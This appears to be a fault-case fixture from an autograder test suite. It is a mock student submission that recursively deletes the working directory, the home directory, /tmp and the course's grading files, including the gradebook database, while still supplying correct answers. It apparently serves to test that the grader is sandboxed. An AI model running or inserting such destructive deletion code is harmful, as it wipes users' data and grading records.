# corpus: fault: tries to delete the course, the gradebook and everything around it; answers are right
# category: fault
# status: ok
# requires: namespaces
# fails:
# %% worked_example
import os
import shutil
from pathlib import Path

import course

_targets = [Path.cwd(), Path.home(), Path("/tmp")]
_top = Path(course.__file__).resolve().parent.parent
_targets += [_top / name for name in ("source", "release", "tests", "autograder", "submitted", "autograded",
                                       "records", "gradebook.db", "nbgrader_config.py", "course")]
for _path in _targets:
    try:
        if _path.is_dir():
            shutil.rmtree(_path, ignore_errors=True)
        else:
            _path.unlink()
    except OSError:
        pass
by_hand_avg = np.array([[3.75, 5.25], [4.50, 1.00]])
by_hand_max = np.array([[6.0, 8.0], [9.0, 2.0]])
